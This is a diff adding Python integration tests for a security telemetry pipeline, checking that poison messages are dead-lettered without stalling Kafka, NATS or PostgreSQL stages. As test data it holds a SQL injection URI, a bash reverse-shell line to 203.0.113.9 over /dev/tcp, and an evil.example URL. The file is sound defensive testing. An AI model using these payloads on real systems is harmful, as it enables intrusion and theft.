@@ -1,0 +1,175 @@
+"""No single message wedges a stage (real broker, worker, NATS and PostgreSQL): each poison message below is
+followed by a canary that must be judged and stored, or commanded, right after it."""
+
+from __future__ import annotations
+
+import base64
+import time
+import uuid
+from collections.abc import Callable
+from typing import Any
+
+import orjson
+
+from agents.verdict import verdict_id_for
+from ops import commandbus, kafka
+from tests.conftest import make_event
+from tests.integration.conftest import LiveStack, on_postgres
+
+ATTACK_URI = "/s?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
+REVERSE_SHELL = "running bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 for the nightly report"
+WITHIN_S = 60.0  # a timeout, not a measure: the wedges held their stage for good (or for minutes)
+
+
+def produce(live: LiveStack, topic: str, *docs: Any) -> None:
+    producer = kafka.producer(live.urls.kafka)
+    for doc in docs:
+        value = doc if isinstance(doc, bytes) else orjson.dumps(doc)
+        producer.produce(topic, key=b"poison", value=value)
+    producer.flush(10)
+
+
+def wait_for(what: str, found: Callable[[], Any], timeout_s: float = WITHIN_S) -> Any:
+    deadline = time.monotonic() + timeout_s
+    while time.monotonic() < deadline:
+        result = found()
+        if result:
+            return result
+        time.sleep(0.3)
+    raise AssertionError(f"{what}: not within {timeout_s:.0f} s")
+
+
+def stored(live: LiveStack, event_id: str) -> dict[str, Any] | None:
+    row = on_postgres(live.urls.postgres, lambda conn: conn.fetchrow(
+        "SELECT entity, doc::text AS doc FROM verdicts WHERE verdict_id = $1", verdict_id_for(event_id)))
+    return None if row is None else {"entity": row["entity"], "doc": orjson.loads(row["doc"])}
+
+
+def dead_letters(live: LiveStack, wanted: Callable[[dict[str, Any]], bool]) -> list[dict[str, Any]]:
+    records = [orjson.loads(m.value()) for m in kafka.read_topic(live.urls.kafka, "telemetry.dlq", idle_s=0.5)]
+    return [r for r in records if wanted(r)]
+
+
+def metric(live: LiveStack, line_start: str) -> float:
+    import urllib.request
+
+    with urllib.request.urlopen(live.web + "/metrics", timeout=5) as response:
+        text = response.read().decode()
+    return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines() if line.startswith(line_start))
+
+
+def command_for(live: LiveStack, target: str) -> dict[str, Any] | None:
+    """The last command published for ``target``, read from JetStream at its encoded subject."""
+    async def read() -> dict[str, Any] | None:
+        import nats.js.errors
+
+        nc = await commandbus.connect(live.urls.nats, live.urls.nats_token, "test-poison")
+        try:
+            subject = f"{commandbus.COMMAND_SUBJECT}.{commandbus.subject_token(target)}"
+            message = await nc.jetstream().get_last_msg(commandbus.COMMAND_STREAM, subject)
+            return orjson.loads(message.data or b"{}")  # type: ignore[no-any-return]
+        except nats.js.errors.NotFoundError:
+            return None
+        finally:
+            await nc.close()
+
+    return live.run(read())  # type: ignore[no-any-return]
+
+
+def test_an_entity_with_nul_is_dead_lettered_at_ingest_and_the_next_event_is_stored(live: LiveStack) -> None:
+    tag = uuid.uuid4().hex[:8]
+    poison = make_event(entity=f"wedge\u0000{tag}", ts=time.time(), uri=ATTACK_URI)
+    canary = make_event(entity=f"canary-{tag}", ts=time.time(), uri=ATTACK_URI)
+    produce(live, "telemetry", poison, canary)
+
+    assert wait_for("canary stored", lambda: stored(live, canary["event_id"]))["entity"] == f"canary-{tag}"
+    [record] = wait_for("poison dead-lettered", lambda: dead_letters(
+        live, lambda r: r["event_id"] == poison["event_id"]))
+    assert record["reason"] == "invalid_identifier" and "U+0000" in record["error"]
+    assert stored(live, poison["event_id"]) is None
+
+
+def test_a_verdict_postgresql_refuses_is_dead_lettered_and_the_next_one_is_stored(live: LiveStack) -> None:
+    tag = uuid.uuid4().hex[:8]
+    # the verdicts topic takes any producer's verdict: one with a NUL in its entity column is refused for good
+    poison = {"verdict_id": f"v-poison-{tag}", "scope": "event", "event_ids": [f"p-{tag}"], "entity": f"x\u0000{tag}",
+              "kind": "http", "category": "THREAT", "final_verdict": "MALICIOUS", "severity": "HIGH",
+              "confidence": 0.9, "score": 0.9, "title": "poison", "evidence": [], "recommended_action": "none",
+              "status": "ACTIVE", "event_ts": time.time(), "ts": time.time()}
+    before = metric(live, 'vertice_dead_lettered_total{reason="sink_rejected",stage="verdict_sink"}')
+    raw = orjson.dumps(poison)
+    produce(live, "verdicts", raw)
+    # and a payload that quotes a NUL: its verdict's evidence holds one, which jsonb alone cannot store
+    quoting = make_event(entity=f"quoting-{tag}", ts=time.time(), uri=ATTACK_URI,
+                         body="see http://evil.example/\u0000x for the rest")
+    canary = make_event(entity=f"canary-{tag}", ts=time.time(), uri=ATTACK_URI)
+    produce(live, "telemetry", quoting, canary)
+
+    assert wait_for("canary stored", lambda: stored(live, canary["event_id"]))
+    kept = wait_for("verdict quoting a NUL stored", lambda: stored(live, quoting["event_id"]))
+    assert "http://evil.example/\ufffdx" in kept["doc"]["iocs"]["url"]
+    [record] = wait_for("poison verdict dead-lettered", lambda: dead_letters(
+        live, lambda r: r["reason"] == "sink_rejected" and r["error"] and f"v-poison-{tag}".encode()
+        in base64.b64decode(r["original_b64"])))
+    assert base64.b64decode(record["original_b64"]) == raw and record["topic"] == "verdicts"
+    assert record["offset"] >= 0 and "0x00" in record["error"]
+    assert metric(live, 'vertice_dead_lettered_total{reason="sink_rejected",stage="verdict_sink"}') >= before + 1
+    assert on_postgres(live.urls.postgres, lambda conn: conn.fetchval(
+        "SELECT count(*) FROM verdicts WHERE verdict_id = $1", f"v-poison-{tag}")) == 0
+
+
+def test_agent_ids_that_are_no_subject_token_still_get_their_commands(live: LiveStack) -> None:
+    tag = uuid.uuid4().hex[:8]
+    odd = [f"two words {tag}", f"*{tag}", f"a.>{tag}", f">{tag}.*"]
+    messages = [make_event("agent_message", entity=f"odd-{i}-{tag}", ts=time.time(), source_agent_id=agent,
+                           content=REVERSE_SHELL) for i, agent in enumerate(odd)]
+    # a 10,000-character target: a block_ip command NATS could never route; it is dead-lettered, not retried
+    huge = make_event(entity=f"huge-{tag}", ts=time.time(), uri=ATTACK_URI, src_ip="9" * 10_000)
+    canary = make_event("agent_message", entity=f"canary-{tag}", ts=time.time(), source_agent_id=f"canary-{tag}",
+                        content=REVERSE_SHELL)
+    before = metric(live, 'vertice_dead_lettered_total{reason="publish_rejected",stage="command_publish"}')
+    produce(live, "telemetry", *messages, huge)
+    produce(live, "telemetry", canary)
+
+    assert wait_for("canary command", lambda: command_for(live, f"canary-{tag}"))["targets"] == [f"canary-{tag}"]
+    for agent in odd:
+        command = wait_for(f"command for {agent!r}", lambda a=agent: command_for(live, a))  # type: ignore[misc]
+        assert command["targets"] == [agent]  # the reflex's redirect_honeypot, or the cortex's command after it
+    [record] = wait_for("oversized target dead-lettered", lambda: dead_letters(
+        live, lambda r: r["reason"] == "publish_rejected" and huge["event_id"].encode() in base64.b64decode(
+            r["original_b64"])))
+    assert record["topic"] == commandbus.COMMAND_SUBJECT and "InvalidSubject" in record["error"]
+    assert metric(live, 'vertice_dead_lettered_total{reason="publish_rejected",stage="command_publish"}') >= before + 1
+
+
+def test_an_agent_id_of_ten_thousand_characters_never_reaches_nats(live: LiveStack) -> None:
+    tag = uuid.uuid4().hex[:8]
+    poison = make_event("agent_message", entity=f"long-{tag}", ts=time.time(), source_agent_id="a" * 10_000,
+                        content=REVERSE_SHELL)
+    canary = make_event("agent_message", entity=f"canary2-{tag}", ts=time.time(), source_agent_id=f"canary2-{tag}",
+                        content=REVERSE_SHELL)
+    produce(live, "telemetry", poison, canary)
+    assert wait_for("canary command", lambda: command_for(live, f"canary2-{tag}"))
+    [record] = wait_for("poison dead-lettered", lambda: dead_letters(
+        live, lambda r: r["event_id"] == poison["event_id"]))
+    assert record["reason"] == "invalid_identifier" and "source_agent_id" in record["error"]
+
+
+def test_ioc_extraction_of_dotted_labels_stays_linear_and_wedges_nothing(live: LiveStack) -> None:
+    def post_time(text: str) -> float:
+        started = time.perf_counter()
+        status, body = live.http("/extract_iocs", "POST", {"text": text})
+        assert status == 200 and body == {"iocs": {}}
+        return time.perf_counter() - started
+
+    small = min(post_time("a." * 500) for _ in range(3))  # 1 KB
+    large = min(post_time("a." * 8000) for _ in range(3))  # 16 KB: 9 s of frozen loop with the old pattern
+    assert large / small < 40, (small, large)  # linear: ~1-16x (the request dominates); quadratic: ~256x
+
+    tag = uuid.uuid4().hex[:8]
+    # a malicious request whose body is 64 KB of dotted labels: its verdict's IOC extraction used to take minutes
+    heavy = make_event(entity=f"heavy-{tag}", ts=time.time(), uri=ATTACK_URI, body="a." * 32_000)
+    canary = make_event(entity=f"canary-{tag}", ts=time.time(), uri=ATTACK_URI)
+    produce(live, "telemetry", heavy, canary)
+    assert wait_for("canary stored", lambda: stored(live, canary["event_id"]), timeout_s=30.0)
+    assert wait_for("heavy stored", lambda: stored(live, heavy["event_id"]), timeout_s=30.0)
